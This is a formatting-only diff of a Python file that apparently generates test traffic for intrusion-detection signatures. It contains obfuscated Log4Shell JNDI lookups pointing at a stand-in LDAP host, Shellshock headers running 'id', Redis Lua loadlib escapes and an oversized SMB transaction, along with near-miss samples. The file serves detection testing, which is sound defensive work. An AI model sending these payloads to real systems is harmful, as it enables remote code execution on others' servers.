@@ -26,9 +26,7 @@ def post(
 
 
 def chunked(body: bytes, size: int) -> bytes:
-    chunks = b"".join(
-        f"{len(part):x}\r\n".encode() + part + b"\r\n" for part in split(body, size)
-    )
+    chunks = b"".join(f"{len(part):x}\r\n".encode() + part + b"\r\n" for part in split(body, size))
     return (
         b"POST / HTTP/1.1\r\nHost: shop.test\r\nContent-Type: application/x-www-form-urlencoded\r\n"
         b"Transfer-Encoding: chunked\r\n\r\n" + chunks + b"0\r\n\r\n"
@@ -57,7 +55,10 @@ def smb1(command: int, words: bytes, data: bytes = b"", answer: bool = False) ->
 
 
 SMB_OPENING = (
-    (smb1(0x72, b"", b"\x02NT LM 0.12\0"), smb1(0x72, struct.pack("<H", 0) + b"\0" * 32, answer=True)),
+    (
+        smb1(0x72, b"", b"\x02NT LM 0.12\0"),
+        smb1(0x72, struct.pack("<H", 0) + b"\0" * 32, answer=True),
+    ),
 )
 
 
@@ -86,7 +87,9 @@ EXPLOITS: Mapping[int, Mapping[str, bytes | tuple[bytes, ...]]] = {
         "case": get(X_Api_Version=b"${JnDi:LDAP://10.0.0.9/a}"),
         "lower": get(User_Agent=b"${${lower:j}ndi:ldap://10.0.0.9/a}"),
         "every letter": get(Referer=b"${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://10.0.0.9/a}"),
-        "unset variables": get(X_A=b"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://10.0.0.9/a}"),
+        "unset variables": get(
+            X_A=b"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://10.0.0.9/a}"
+        ),
         "nested twice": get(X_A=b"${${upper:${lower:j}}${lower:n}${lower:d}i:ldap://10.0.0.9/a}"),
         "some letters": get(X_A=b"${j${k8s:k5:-ND}i:ldap://10.0.0.9/a}"),
         "folded header": get(X_A=b"v\r\n ${jndi:ldap://10.0.0.9/a}"),
@@ -113,7 +116,11 @@ EXPLOITS: Mapping[int, Mapping[str, bytes | tuple[bytes, ...]]] = {
         "any header": get(b"/cgi-bin/status", X_Any=b"() { _; } >_[$($())] { id; }"),
         "no space": get(b"/cgi-bin/s", Referer=b"x").replace(b": x", b":() { x;};echo;id"),
         "last of many": get(
-            b"/cgi-bin/s", Accept=b"*/*", Accept_Language=b"en", User_Agent=b"curl", X=b"() { a;}; id"
+            b"/cgi-bin/s",
+            Accept=b"*/*",
+            Accept_Language=b"en",
+            User_Agent=b"curl",
+            X=b"() { a;}; id",
         ),
         "segments": split(get(b"/cgi-bin/status", User_Agent=b"() { :;}; id"), 7),
     },
@@ -171,7 +178,9 @@ EXPLOITS: Mapping[int, Mapping[str, bytes | tuple[bytes, ...]]] = {
         "by index": resp(b"EVAL", b"return package['loadlib']('/tmp/x.so','luaopen_os')", b"0"),
     },
     4850601: {
-        "spelled otherwise": resp(b"EVAL", b"return _G['pack'..'age']['load'..'lib'](p,'luaopen_os')", b"0")
+        "spelled otherwise": resp(
+            b"EVAL", b"return _G['pack'..'age']['load'..'lib'](p,'luaopen_os')", b"0"
+        )
     },
     4850700: {"oversized": nt_transact(66512), "segments": split(nt_transact(0x10000), 20)},
 }
@@ -215,7 +224,9 @@ NEAR_MISSES: Mapping[str, bytes | tuple[bytes, ...]] = {
 
 def build_connections() -> list[Connection]:
     """Every sample over IPv4 and IPv6."""
-    samples = [(f"{sid} {name}", sent) for sid, group in EXPLOITS.items() for name, sent in group.items()]
+    samples = [
+        (f"{sid} {name}", sent) for sid, group in EXPLOITS.items() for name, sent in group.items()
+    ]
     samples += [(f"near miss: {name}", sent) for name, sent in NEAR_MISSES.items()]
     made = []
     for name, sent in samples:
